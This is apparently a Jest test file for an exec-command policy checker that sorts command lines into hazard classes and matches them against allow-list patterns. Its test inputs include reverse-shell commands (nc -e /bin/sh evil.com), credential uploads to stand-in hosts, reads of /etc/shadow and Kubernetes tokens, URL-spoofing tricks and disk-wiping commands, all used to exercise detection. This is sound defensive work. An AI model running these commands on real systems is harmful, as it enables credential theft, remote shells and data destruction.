// Table tests for exec argv analysis: effective program, hazard classes and allow-list patterns of tricky
// command lines, pattern syntax errors, and a generative test (random argvs never throw, invariants hold).
import { describe, expect, it } from '@jest/globals';
import {
  compileCommandPattern, effectiveCommand, execHazards,
  type CommandPattern, type ExecContext, type HazardClass,
} from '../../../src/policy/exec-command.js';
import { mulberry32 } from '../../helpers/random.js';

const CLASSES: HazardClass[] = ['inlineScript', 'credentialRead', 'networkElsewhere', 'destructive', 'interactive', 'shell', 'commandRunner'];
const CTX: ExecContext = { credentialPaths: [], interactive: false };

function pattern(src: string): CommandPattern {
  const p = compileCommandPattern(src);
  if ('error' in p) throw new Error(`pattern ${src}: ${p.error}`);
  return p;
}

function classes(argv: readonly string[], ctx: ExecContext = CTX): HazardClass[] {
  return [...new Set(execHazards(argv, ctx).map((h) => h.class))].sort();
}

interface Case {
  argv: string[];
  /** Exact set of hazard classes. */
  hazards: HazardClass[];
  program?: string;
  path?: string;
  wrappers?: string[];
  env?: Record<string, string>;
  ctx?: Partial<ExecContext>;
  match?: string[];
  noMatch?: string[];
}

const CASES: Case[] = [
  // the brief's table
  { argv: ['cat', '/app/config/a.yaml'], program: 'cat', wrappers: [], hazards: [], match: ['cat /app/config/*', 'cat /app/**', 'cat ...', 'cat /app/config/?.yaml'], noMatch: ['cat', 'cat /app/config/*.json', 'cat /app/*', '/bin/cat /app/config/*'] },
  { argv: ['cat', '/app/config/../../var/run/secrets/kubernetes.io/serviceaccount/token'], hazards: ['credentialRead'], noMatch: ['cat /app/config/*', 'cat /app/**'], match: ['cat /var/run/secrets/**'] },
  { argv: ['/bin/sh', '-c', 'id'], program: 'sh', path: '/bin/sh', hazards: ['inlineScript'], match: ['sh -c id', '/bin/sh -c *', '/bin/* -c id'], noMatch: ['/usr/bin/sh -c id', 'sh -c', 'sh -c id ...x'] },
  { argv: ['sh', '-ec', 'x'], hazards: ['inlineScript'] },
  { argv: ['busybox', 'sh', '-c', 'x'], program: 'sh', path: 'sh', wrappers: ['busybox'], hazards: ['inlineScript'], match: ['busybox sh -c x', 'busybox ...'], noMatch: ['sh -c x', 'sh ...'] },
  { argv: ['env', 'FOO=1', 'sh', '-c', 'x'], program: 'sh', wrappers: ['env'], env: { FOO: '1' }, hazards: ['inlineScript'], match: ['env FOO=1 sh -c x', 'env ...'], noMatch: ['sh -c x', 'sh ...'] },
  { argv: ['env', '-i', '/usr/bin/python3', '-c', 'print(1)'], program: 'python3', path: '/usr/bin/python3', wrappers: ['env'], env: {}, hazards: ['inlineScript'] },
  { argv: ['sudo', '-u', 'root', 'cat', '/etc/shadow'], program: 'cat', wrappers: ['sudo'], hazards: ['credentialRead'], match: ['sudo -u root cat /etc/*'], noMatch: ['cat /etc/*', 'cat ...'] },
  // wrappers: a pattern only matches a wrapped command when it names the wrapper itself
  { argv: ['timeout', '5', 'curl', '-sf', 'http://localhost:8080/healthz'], program: 'curl', wrappers: ['timeout'], hazards: [], match: ['timeout * curl -sf http://localhost:*/healthz', 'timeout ...'], noMatch: ['curl -sf http://localhost:*/healthz', 'curl ...'] },
  { argv: ['curl', '-sf', 'http://localhost:8080/healthz'], hazards: [], match: ['curl -sf http://localhost:*/healthz', 'curl ...'], noMatch: ['timeout * curl -sf http://localhost:*/healthz'] },
  { argv: ['curl', 'http://localhost@evil.com/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '-sf', 'http://127.0.0.1.nip.io/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '--resolve', 'localhost:80:1.2.3.4', 'http://localhost/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '-d', '@/var/run/secrets/kubernetes.io/serviceaccount/token', 'http://localhost/'], hazards: ['credentialRead'] },
  { argv: ['ls', '-la', '/'], hazards: [], match: ['ls ...', 'ls -la /', 'ls -la ...', 'ls * /', 'ls -la //'], noMatch: ['ls', 'ls -la', 'ls -la / ...x'] },
  { argv: ['cat', '--', '/etc/shadow'], hazards: ['credentialRead'] },
  { argv: ['cat', '/var/run/secretsX/a'], hazards: [] },
  { argv: ['find', '/', '-name', 'x', '-exec', 'sh', '{}', ';'], hazards: ['commandRunner', 'credentialRead'] },
  { argv: ['xargs', 'sh'], hazards: ['commandRunner', 'shell'] },
  { argv: ['rm', '-rf', '/tmp/x'], hazards: ['destructive'] },
  { argv: ['kill', '1'], hazards: ['destructive'] },
  { argv: ['tar', 'cf', '-', '/var/run/secrets'], hazards: ['credentialRead'] },
  // A bare program name in a pattern is the system's program, never a file of that name elsewhere.
  { argv: ['/tmp/rt/ls', '-la'], hazards: [], noMatch: ['ls ...'] },
  { argv: ['./cat', '/app/a'], hazards: [], noMatch: ['cat /**'] },
  { argv: ['/usr/bin/../../tmp/cat', '/app/a'], hazards: ['credentialRead'], noMatch: ['cat /**'] },
  { argv: ['/bin/ls', '-la'], hazards: [], match: ['ls ...'] },
  { argv: ['/usr/local/bin/cat', '/app/a'], hazards: [], match: ['cat /**'] },
  // The kernel's symlinks make lexical normalisation lie: /proc/net and /dev/fd point into /proc/self.
  { argv: ['cat', '/proc/net/../environ'], hazards: ['credentialRead'] },
  { argv: ['cat', '/dev/fd/../environ'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/net/../root/etc/secret-volume/password'], hazards: ['credentialRead'] },
  { argv: ['tar', 'cf', '-', '/proc/net/../root'], hazards: ['credentialRead'] },
  { argv: ['wc', '--files0-from', '/proc/net/../environ'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/1/cmdline'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/1/fd/3'], hazards: ['credentialRead'] },
  { argv: ['cat', '/dev/stdin'], hazards: ['credentialRead'] },
  { argv: ['cat', '/app/logs/../config.yaml'], hazards: ['credentialRead'] },
  { argv: ['cat', '/proc/cpuinfo'], hazards: [] },
  { argv: ['cat', '/proc/meminfo'], hazards: [] },
  { argv: ['ls', '/proc'], hazards: [] },
  { argv: ['node', '-e', 'x'], hazards: ['inlineScript'] },
  { argv: ['python3'], hazards: ['shell'] },
  { argv: ['awk', 'BEGIN{system("id")}'], hazards: ['inlineScript'] },
  { argv: ['echo', 'hello world'], hazards: [], match: ["echo 'hello world'", 'echo "hello world"', 'echo hello\\ world', 'echo hello*', "echo 'hello '*", 'echo "hello w"?rld'], noMatch: ['echo hello world', "echo 'hello *'", 'echo hello'] },
  { argv: [], program: '', path: '', wrappers: [], hazards: ['shell'], noMatch: ['* ...', 'ls ...'] },

  // shells
  { argv: ['sh'], hazards: ['shell'] },
  { argv: ['bash', '/app/run.sh'], hazards: [] },
  { argv: ['bash', '-x', '/app/run.sh', '-c'], hazards: [] },
  { argv: ['bash', '-o', 'pipefail', '-c', 'x'], hazards: ['inlineScript'] },
  { argv: ['zsh', '-lc', 'x'], hazards: ['inlineScript'] },
  { argv: ['bash', '-xc', 'x'], hazards: ['inlineScript'] },
  { argv: ['ksh', '-cx', 'x'], hazards: ['inlineScript'] },
  { argv: ['dash', '--command', 'x'], hazards: ['inlineScript'] },
  { argv: ['fish', '--command=echo'], hazards: ['inlineScript'] },
  { argv: ['bash', '-s'], hazards: ['shell'] },
  { argv: ['bash', '-i', '/app/x.sh'], hazards: ['shell'] },
  { argv: ['sh', '/dev/stdin'], hazards: ['shell', 'credentialRead'] },
  { argv: ['./sh', '-c', 'x'], program: 'sh', path: './sh', hazards: ['inlineScript'] },
  { argv: ['busybox', 'ash', '-c', 'x'], program: 'ash', hazards: ['inlineScript'] },
  { argv: ['pwsh', '-Command', 'Get-Process'], hazards: ['inlineScript'] },
  { argv: ['pwsh', '-c', 'x'], hazards: ['inlineScript'] },
  { argv: ['powershell', '-EncodedCommand', 'ZQBjAGgAbwA='], hazards: ['inlineScript'] },
  { argv: ['powershell', 'Get-Process'], hazards: ['inlineScript'] },
  { argv: ['pwsh', '/app/x.ps1'], hazards: [] },
  { argv: ['pwsh'], hazards: ['shell'] },
  { argv: ['cmd', '/c', 'dir'], hazards: ['inlineScript'] },

  // interpreters
  { argv: ['python3', '-m', 'http.server'], hazards: [] },
  { argv: ['python3', '/app/x.py'], hazards: [] },
  { argv: ['python3', '-i', '/app/x.py'], hazards: ['shell'] },
  { argv: ['python3', '-'], hazards: ['shell'] },
  { argv: ['python3.11', '-c', 'x'], program: 'python3.11', hazards: ['inlineScript'], match: ['python* -c *'] },
  { argv: ['/usr/bin/python3.11', '-Wignore', '-c', 'x'], hazards: ['inlineScript'] },
  { argv: ['pypy3', '-c', 'x'], hazards: ['inlineScript'] },
  { argv: ['python', '-m', 'pip', 'install', 'x'], hazards: ['destructive'] },
  { argv: ['perl', '-ne', 'print', 'f'], hazards: ['inlineScript'] },
  { argv: ['perl', '-lane', 'print $F[0]'], hazards: ['inlineScript'] },
  { argv: ['perl', '-i.bak', '-pe', 's/a/b/', 'f'], hazards: ['destructive', 'inlineScript'] },
  { argv: ['perl', '/app/x.pl'], hazards: [] },
  { argv: ['perl'], hazards: ['shell'] },
  { argv: ['ruby', '-v', '-e', 'x'], hazards: ['inlineScript'] },
  { argv: ['php', '-r', 'x'], hazards: ['inlineScript'] },
  { argv: ['php', '-f', '/app/x.php'], hazards: [] },
  { argv: ['lua5.4', '-e', 'x'], hazards: ['inlineScript'] },
  { argv: ['deno', 'eval', 'x'], hazards: ['inlineScript'] },
  { argv: ['bun', '--eval', 'x'], hazards: ['inlineScript'] },
  { argv: ['nodejs', '--print', '1'], hazards: ['inlineScript'] },
  { argv: ['node', '-pe', '1'], hazards: ['inlineScript'] },
  { argv: ['node', '/app/server.js'], hazards: [] },
  { argv: ['node', '--version'], hazards: [] },
  { argv: ['node'], hazards: ['shell'] },
  { argv: ['irb'], hazards: ['shell'] },
  { argv: ['tclsh'], hazards: ['inlineScript'] },
  { argv: ['gawk', '-f', 'x.awk', 'f'], hazards: ['inlineScript'] },
  { argv: ['busybox', 'awk', '{print}'], program: 'awk', hazards: ['inlineScript'] },
  { argv: ['osascript', '-e', 'x'], hazards: ['inlineScript'] },
  { argv: ['vim', '-c', '!id'], hazards: ['inlineScript'] },
  { argv: ['sed', 's/a/b/', 'f'], hazards: [] },
  { argv: ['sed', '-n', '1p', 'f'], hazards: [] },
  { argv: ['sed', '-ne', 's/x/y/p'], hazards: [] },
  { argv: ['sed', '1e id', 'f'], hazards: ['inlineScript'] },
  { argv: ['sed', 's/x/y/e', 'f'], hazards: ['inlineScript'] },
  { argv: ['sed', '-e', 'w /tmp/out', 'f'], hazards: ['inlineScript'] },
  { argv: ['sed', '/foo/r /etc/passwd', 'f'], hazards: ['inlineScript'] },
  { argv: ['sed', '-f', 'x.sed', 'f'], hazards: ['inlineScript'] },
  { argv: ['sed', '-i', 's/a/b/', 'f'], hazards: ['destructive'] },
  { argv: ['sed', 's/a\\/b/e/g', 'f'], hazards: [] },
  { argv: ['sed', 's|/|e|', 'f'], hazards: [] },
  { argv: ['sed', '$!N;s/\\n/ /', 'f'], hazards: [] },
  { argv: ['sed', 'y/abc/xyz/'], hazards: [] },
  { argv: ['sed', '--sandbox', 's/x/y/e'], hazards: [] },

  // wrappers
  { argv: ['env'], program: 'env', wrappers: [], hazards: [], match: ['env'] },
  { argv: ['env', 'FOO=1'], program: 'env', wrappers: [], env: {}, hazards: [] },
  { argv: ['env', 'sh'], program: 'sh', wrappers: ['env'], hazards: ['shell'] },
  { argv: ['/usr/bin/env', '-u', 'HOME', '--', 'ls'], program: 'ls', wrappers: ['env'], hazards: [], match: ['env ...'], noMatch: ['ls'] },
  { argv: ['env', '-S', 'sh -c id'], program: 'env', wrappers: [], hazards: ['commandRunner', 'inlineScript'], match: ['env ...'] },
  { argv: ['env', '-C', '/tmp', 'ls'], program: 'env', hazards: ['commandRunner'] },
  { argv: ['env', 'LD_PRELOAD=/tmp/x.so', 'cat', 'f'], program: 'cat', env: { LD_PRELOAD: '/tmp/x.so' }, hazards: ['commandRunner'], noMatch: ['cat *', 'env LD_PRELOAD=* cat *'], match: ['env LD_PRELOAD=/tmp/*.so cat *'] },
  { argv: ['env', 'HTTPS_PROXY=http://evil:3128', 'curl', 'https://localhost/'], hazards: ['networkElsewhere'] },
  { argv: ['env', 'KUBECONFIG=/etc/kubernetes/admin.conf', 'kubectl', 'get', 'pods'], program: 'kubectl', hazards: ['credentialRead'] },
  { argv: ['nice', '-n', '10', 'rm', '-rf', '/data'], program: 'rm', wrappers: ['nice'], hazards: ['destructive'] },
  { argv: ['nice', '-10', 'ls'], program: 'ls', wrappers: ['nice'], hazards: [] },
  { argv: ['nice', '-n', 'rm', '-rf', '/'], program: 'nice', wrappers: [], hazards: ['commandRunner', 'destructive'] },
  { argv: ['nohup', 'sh', '-c', 'x'], program: 'sh', wrappers: ['nohup'], hazards: ['inlineScript'] },
  { argv: ['timeout', '-s', 'KILL', '5s', 'sh'], program: 'sh', hazards: ['shell'] },
  { argv: ['timeout', 'sh', '-c', 'x'], program: 'timeout', wrappers: [], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['timeout', '--', '5', 'ls'], program: 'ls', wrappers: ['timeout'], hazards: [] },
  { argv: ['stdbuf', '-oL', 'tail', '-f', '/var/log/x'], program: 'tail', wrappers: ['stdbuf'], hazards: [] },
  { argv: ['ionice', '-c', '3', 'nice', '-n', '19', 'tar', 'cf', '-', '/data'], program: 'tar', wrappers: ['ionice', 'nice'], hazards: [] },
  { argv: ['setsid', '-f', 'sleep', '1'], program: 'sleep', wrappers: ['setsid'], hazards: [] },
  { argv: ['time', '-p', 'ls'], program: 'ls', wrappers: ['time'], hazards: [] },
  { argv: ['time', '-o', '/tmp/t', 'ls'], program: 'time', wrappers: [], hazards: ['commandRunner'] },
  { argv: ['command', '-p', 'cat', '/etc/shadow'], program: 'cat', wrappers: ['command'], hazards: ['credentialRead'] },
  { argv: ['command', '-v', 'sh'], program: 'command', wrappers: [], hazards: [] },
  { argv: ['exec', '-a', 'x', 'sh'], program: 'sh', wrappers: ['exec'], hazards: ['shell'] },
  { argv: ['chrt', '-o', '0', 'ls'], program: 'ls', wrappers: ['chrt'], hazards: [] },
  { argv: ['chrt', '--idle', 'ls'], program: 'ls', wrappers: ['chrt'], hazards: [] },
  { argv: ['taskset', '-c', '0-3', 'ls'], program: 'ls', wrappers: ['taskset'], hazards: [] },
  { argv: ['taskset', '-p', '1'], program: 'taskset', hazards: ['commandRunner'] },
  { argv: ['sudo', '-s'], program: 'sudo', hazards: ['shell'] },
  { argv: ['sudo', '-i', 'sh', '-c', 'x'], program: 'sudo', hazards: ['inlineScript', 'shell'] },
  { argv: ['sudo', '-E', 'env', 'PATH=/x', 'sh'], program: 'sh', wrappers: ['sudo', 'env'], env: { PATH: '/x' }, hazards: ['shell'] },
  { argv: ['sudo', 'FOO=1', 'ls'], program: 'ls', wrappers: ['sudo'], env: { FOO: '1' }, hazards: [] },
  { argv: ['sudo', '-l'], program: 'sudo', hazards: [] },
  { argv: ['doas', '-u', 'app', 'ls'], program: 'ls', wrappers: ['doas'], hazards: [] },
  { argv: ['busybox', 'wget', 'http://evil.com/x'], program: 'wget', hazards: ['networkElsewhere'] },
  { argv: ['busybox', '--list'], program: 'busybox', wrappers: [], hazards: [] },
  { argv: ['busybox', 'busybox', 'sh'], program: 'sh', wrappers: ['busybox', 'busybox'], hazards: ['shell'] },

  // command runners
  { argv: ['su', '-c', 'id', 'root'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['su', '-'], hazards: ['commandRunner', 'shell'] },
  { argv: ['runuser', '-u', 'app', '--', 'rm', '-rf', '/x'], hazards: ['commandRunner', 'destructive'] },
  { argv: ['script', '-qc', 'id', '/dev/null'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['watch', '-n', '1', 'ls'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['watch', '-x', 'ls'], hazards: ['commandRunner'] },
  { argv: ['nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh'], hazards: ['commandRunner', 'shell'] },
  { argv: ['nsenter', '-t', '1', '-a'], hazards: ['commandRunner', 'shell'] },
  { argv: ['unshare', '-r', 'id'], hazards: ['commandRunner'] },
  { argv: ['chroot', '/host'], hazards: ['commandRunner', 'shell'] },
  { argv: ['chroot', '/host', 'cat', '/etc/shadow'], hazards: ['commandRunner', 'credentialRead'] },
  { argv: ['strace', '-f', '-o', '/tmp/x', 'curl', 'http://evil.com'], hazards: ['commandRunner', 'networkElsewhere'] },
  { argv: ['gdb', '-ex', 'run', '--args', 'sh', '-c', 'x'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['flock', '/tmp/l', '-c', 'id'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['flock', '-n', '/tmp/l', 'rm', '-rf', '/x'], hazards: ['commandRunner', 'destructive'] },
  { argv: ['sshpass', '-p', 'pw', 'ssh', 'evil.com'], hazards: ['commandRunner', 'networkElsewhere'] },
  { argv: ['parallel', 'gzip', ':::', 'a', 'b'], hazards: ['commandRunner'] },
  { argv: ['capsh', '--', '-c', 'id'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['find', '.', '-name', '*.log', '-delete'], hazards: ['destructive'] },
  { argv: ['find', '/tmp', '-name', 'x'], hazards: [] },
  { argv: ['find', '/var', '-exec', 'cat', '{}', '+'], hazards: ['commandRunner', 'credentialRead'] },
  { argv: ['find', '-L', '/app', '-execdir', 'sh', '-c', 'x', '{}', ';'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['xargs', '-0', '-I', '{}', 'rm', '-f', '{}'], hazards: ['commandRunner', 'destructive'] },
  { argv: ['xargs', '-n1', 'env', 'sh', '-c', 'x'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['ip', 'netns', 'exec', 'x', 'sh'], hazards: ['commandRunner', 'shell'] },

  // network
  { argv: ['curl', 'http://localhost:8080/'], hazards: [] },
  { argv: ['curl', 'localhost:8080/x'], hazards: [] },
  { argv: ['curl', 'http://[::1]:8080/'], hazards: [] },
  { argv: ['curl', 'http://127.0.0.2/'], hazards: [] },
  { argv: ['curl', 'http://0.0.0.0:80/'], hazards: [] },
  { argv: ['curl', 'HTTP://LOCALHOST/'], hazards: [] },
  { argv: ['curl', 'http://2130706433/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://0x7f.0.0.1/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://127.0.0.01/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://localhost./'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://localhost.evil.com/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://evil.com\\@localhost/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://a@localhost@evil.com/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://localhost#@evil.com/'], hazards: [] },
  { argv: ['curl', 'http://{localhost,evil.com}/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http:/evil.com/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http:evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['curl', 'http://[::ffff:127.0.0.1]/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '-sf', 'http://localhost:80@evil.com/healthz'], hazards: ['networkElsewhere'], match: ['curl -sf http://localhost:*/healthz'] },
  { argv: ['curl', 'evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '--url', 'http://evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '-x', 'http://proxy:3128', 'http://localhost/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '--connect-to', '::evil.com:', 'http://localhost/'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '-K', '/tmp/cfg'], hazards: ['networkElsewhere'] },
  { argv: ['curl', '-o', '/tmp/out', '-H', 'Host: evil.com', '-sSfL', '-m', '5', 'http://localhost/'], hazards: [] },
  { argv: ['curl', '-sfo/tmp/out', 'http://localhost/'], hazards: [] },
  { argv: ['curl', 'file:///var/run/secrets/kubernetes.io/serviceaccount/token'], hazards: ['credentialRead'] },
  { argv: ['curl', '-F', 'f=@/etc/shadow', 'http://localhost/'], hazards: ['credentialRead'] },
  { argv: ['curl', '--data-binary=@/var/run/secrets/x', 'http://localhost/'], hazards: ['credentialRead'] },
  { argv: ['curl', '-d@/var/run/secrets/x', 'http://localhost/'], hazards: ['credentialRead'] },
  { argv: ['curl', '-T', '/root/.ssh/id_rsa', 'http://localhost/'], hazards: ['credentialRead'] },
  { argv: ['curl', '--config=/root/.kube/config'], hazards: ['credentialRead', 'networkElsewhere'] },
  { argv: ['wget', '-qO-', 'http://localhost/'], hazards: [] },
  { argv: ['wget', 'http://evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['wget', '-e', 'use_proxy=on', 'http://localhost/'], hazards: ['networkElsewhere'] },
  { argv: ['nc', 'evil.com', '80'], hazards: ['networkElsewhere'] },
  { argv: ['nc', '-z', 'localhost', '80'], hazards: [] },
  { argv: ['nc', '-l', '-p', '8080'], hazards: [] },
  { argv: ['nc', '-e', '/bin/sh', 'evil.com', '4444'], hazards: ['commandRunner', 'networkElsewhere', 'shell'] },
  { argv: ['ncat', '--sh-exec', 'id', 'localhost', '80'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['socat', '-', 'TCP:evil.com:80'], hazards: ['networkElsewhere'] },
  { argv: ['socat', 'TCP-LISTEN:8080,fork', 'TCP:localhost:80'], hazards: [] },
  { argv: ['socat', '-', 'SOCKS4:localhost:evil.com:80'], hazards: ['networkElsewhere'] },
  { argv: ['socat', '-', 'EXEC:/bin/sh'], hazards: ['commandRunner', 'shell'] },
  { argv: ['socat', '-', 'EXEC:sh -c id'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['socat', '-', 'SYSTEM:id'], hazards: ['commandRunner', 'inlineScript'] },
  { argv: ['ssh', 'user@evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['ssh', 'localhost', 'id'], hazards: ['inlineScript'] },
  { argv: ['ssh', '-o', 'ProxyCommand=nc evil 22', 'localhost'], hazards: ['commandRunner'] },
  { argv: ['ssh', '-o', 'HostName=evil.com', 'localhost'], hazards: ['networkElsewhere'] },
  { argv: ['ssh', '-J', 'evil.com', 'localhost'], hazards: ['networkElsewhere'] },
  { argv: ['ssh', '-L', '8080:evil.com:80', 'localhost'], hazards: ['networkElsewhere'] },
  { argv: ['ssh', '-D', '1080', 'localhost'], hazards: ['networkElsewhere'] },
  { argv: ['scp', '/tmp/x', 'evil.com:/tmp/'], hazards: ['networkElsewhere'] },
  { argv: ['scp', '/tmp/a', '/tmp/b'], hazards: [] },
  { argv: ['scp', '-r', '/var', 'localhost:/tmp'], hazards: ['credentialRead'] },
  { argv: ['rsync', '-a', '/data/', 'backup@evil.com:/data'], hazards: ['networkElsewhere'] },
  { argv: ['rsync', '-a', '/src/', '/tmp/dst/'], hazards: [] },
  { argv: ['rsync', '-e', 'ssh -p 2222', 'x', 'localhost:/y'], hazards: ['commandRunner'] },
  { argv: ['rsync', 'rsync://evil.com/mod', '/tmp'], hazards: ['networkElsewhere'] },
  { argv: ['http', 'POST', ':8080/api', 'x=1'], hazards: [] },
  { argv: ['http', 'evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['https', 'localhost:8443'], hazards: [] },
  { argv: ['grpcurl', '-plaintext', 'localhost:50051', 'list'], hazards: [] },
  { argv: ['grpcurl', '-d', '{}', 'evil.com:443', 'x.Svc/Call'], hazards: ['networkElsewhere'] },
  { argv: ['openssl', 's_client', '-connect', 'evil.com:443'], hazards: ['networkElsewhere'] },
  { argv: ['openssl', 's_client', '-connect', 'localhost:443'], hazards: [] },
  { argv: ['telnet', 'evil.com', '25'], hazards: ['networkElsewhere'] },
  { argv: ['ftp', 'evil.com'], hazards: ['networkElsewhere'] },
  { argv: ['ping', 'evil.com'], hazards: [] },
  { argv: ['dig', 'evil.com'], hazards: [] },
  { argv: ['nslookup', 'evil.com'], hazards: [] },
  { argv: ['git', 'clone', 'https://github.com/x/y'], hazards: ['networkElsewhere'] },
  { argv: ['git', 'clone', 'git@github.com:x/y.git'], hazards: ['networkElsewhere'] },
  { argv: ['git', 'status'], hazards: [] },
  { argv: ['git', 'fetch'], hazards: ['networkElsewhere'] },
  { argv: ['git', '-c', 'core.sshCommand=id', 'fetch'], hazards: ['commandRunner', 'networkElsewhere'] },
  { argv: ['git', 'push', '/tmp/repo'], hazards: [] },

  // destructive
  { argv: ['rm', '/tmp/x'], hazards: [] },
  { argv: ['rm', '--recursive', 'x'], hazards: ['destructive'] },
  { argv: ['rm', '--rec', 'x'], hazards: ['destructive'] },
  { argv: ['rm', 'x', '-f'], hazards: ['destructive'] },
  { argv: ['rm', '--', '-rf'], hazards: [] },
  { argv: ['rmdir', '/tmp/d'], hazards: ['destructive'] },
  { argv: ['pkill', 'nginx'], hazards: ['destructive'] },
  { argv: ['shutdown', '-h', 'now'], hazards: ['destructive'] },
  { argv: ['dd', 'if=/dev/zero', 'of=/dev/sda'], hazards: ['destructive'] },
  { argv: ['dd', 'if=/etc/shadow'], hazards: ['credentialRead'] },
  { argv: ['mkfs.ext4', '/dev/sda1'], hazards: ['destructive'] },
  { argv: ['shred', '-u', 'f'], hazards: ['destructive'] },
  { argv: ['truncate', '-s', '0', 'f'], hazards: ['destructive'] },
  { argv: ['chmod', '-R', '777', '/app'], hazards: ['destructive'] },
  { argv: ['chmod', '644', '/app/x'], hazards: [] },
  { argv: ['chown', 'root', '/'], hazards: ['destructive'] },
  { argv: ['chmod', '+x', '//.'], hazards: ['destructive'] },
  { argv: ['mv', 'a', 'b'], hazards: ['destructive'] },
  { argv: ['crontab', '-r'], hazards: ['destructive'] },
  { argv: ['crontab', '-l'], hazards: [] },
  { argv: ['iptables', '-F'], hazards: ['destructive'] },
  { argv: ['iptables', '-t', 'nat', '-nvL'], hazards: [] },
  { argv: ['nft', 'list', 'ruleset'], hazards: [] },
  { argv: ['nft', 'flush', 'ruleset'], hazards: ['destructive'] },
  { argv: ['ip', 'route', 'add', 'default', 'via', '1.2.3.4'], hazards: ['destructive'] },
  { argv: ['ip', 'addr'], hazards: [] },
  { argv: ['ip', 'a', 's'], hazards: [] },
  { argv: ['ip', '-s', 'link'], hazards: [] },
  { argv: ['ip', 'link', 'set', 'eth0', 'down'], hazards: ['destructive'] },
  { argv: ['ip', 'l', 's', 'eth0', 'up'], hazards: ['destructive'] },
  { argv: ['mount', '/dev/sda1', '/mnt'], hazards: ['destructive'] },
  { argv: ['mount'], hazards: [] },
  { argv: ['umount', '/mnt'], hazards: ['destructive'] },
  { argv: ['apt-get', 'install', '-y', 'curl'], hazards: ['destructive'] },
  { argv: ['apk', 'add', 'curl'], hazards: ['destructive'] },
  { argv: ['pip3', 'install', 'x'], hazards: ['destructive'] },
  { argv: ['pip', 'list'], hazards: [] },
  { argv: ['npm', 'ci'], hazards: ['destructive'] },
  { argv: ['yum', 'list'], hazards: [] },
  { argv: ['rpm', '-qi', 'bash'], hazards: [] },
  { argv: ['rpm', '-ivh', 'x.rpm'], hazards: ['destructive'] },
  { argv: ['cp', 'a', '/etc/x'], hazards: ['destructive'] },
  { argv: ['cp', 'a', '/tmp/x'], hazards: [] },
  { argv: ['cp', 'a', '/tmp/../etc/x'], hazards: ['destructive', 'credentialRead'] },
  { argv: ['cp', 'a', 'b'], hazards: ['destructive'] },
  { argv: ['cp', 'a', 'b'], ctx: { workingDir: '/tmp/work' }, hazards: [] },
  { argv: ['cp', '-t', '/etc', 'a'], hazards: ['destructive'] },
  { argv: ['cp', '-t/tmp', 'a'], hazards: [] },
  { argv: ['cp', '-r', '/var/run', '/tmp/x'], hazards: ['credentialRead'] },
  { argv: ['tee', '/dev/null'], hazards: [] },
  { argv: ['tee', '-a', '/etc/hosts'], hazards: ['destructive'] },
  { argv: ['tee'], hazards: [] },
  { argv: ['ln', '-s', '/x', '/usr/bin/y'], hazards: ['destructive'] },
  { argv: ['install', '-m', '755', 'x', '/usr/local/bin/x'], hazards: ['destructive'] },
  { argv: ['useradd', 'x'], hazards: ['destructive'] },
  { argv: ['systemctl', 'status', 'x'], hazards: [] },
  { argv: ['systemctl', 'restart', 'x'], hazards: ['destructive'] },
  { argv: ['sysctl', '-w', 'a=b'], hazards: ['destructive'] },

  // credentials
  { argv: ['cat', '/etc/db-creds/password'], ctx: { credentialPaths: ['/etc/db-creds'] }, hazards: ['credentialRead'] },
  { argv: ['cat', 'db-creds/password'], ctx: { credentialPaths: ['/etc/db-creds'] }, hazards: ['credentialRead'] },
  { argv: ['cat', '/etc/db-credsX'], ctx: { credentialPaths: ['/etc/db-creds'] }, hazards: [] },
  // ".." is judged where it could land, not where it lexically does: a symlink on the way moves it.
  { argv: ['cat', '/etc/db-creds/../passwd'], ctx: { credentialPaths: ['/etc/db-creds/'] }, hazards: ['credentialRead'] },
  { argv: ['cat', 'token'], ctx: { workingDir: '/var/run/secrets/kubernetes.io/serviceaccount' }, hazards: ['credentialRead'] },
  { argv: ['cat', 'token'], hazards: [] },
  { argv: ['cat', '../../var/run/secrets/x'], ctx: { workingDir: '/app/x' }, hazards: ['credentialRead'] },
  { argv: ['cat', '../config/a.yaml'], ctx: { workingDir: '/app/x' }, hazards: ['credentialRead'] },
  { argv: ['cat', '../x'], hazards: ['credentialRead'] },
  { argv: ['cat', 'config/a.yaml'], hazards: [] },
  { argv: ['cat', 'run/secrets/kubernetes.io/serviceaccount/token'], hazards: ['credentialRead'] },
  { argv: ['cat', 'serviceaccount/token'], hazards: ['credentialRead'] },
  { argv: ['cat', '.ssh/id_rsa'], hazards: ['credentialRead'] },
  { argv: ['cat', '~/.kube/config'], hazards: ['credentialRead'] },
  { argv: ['cat', '$HOME/.aws/credentials'], hazards: ['credentialRead'] },
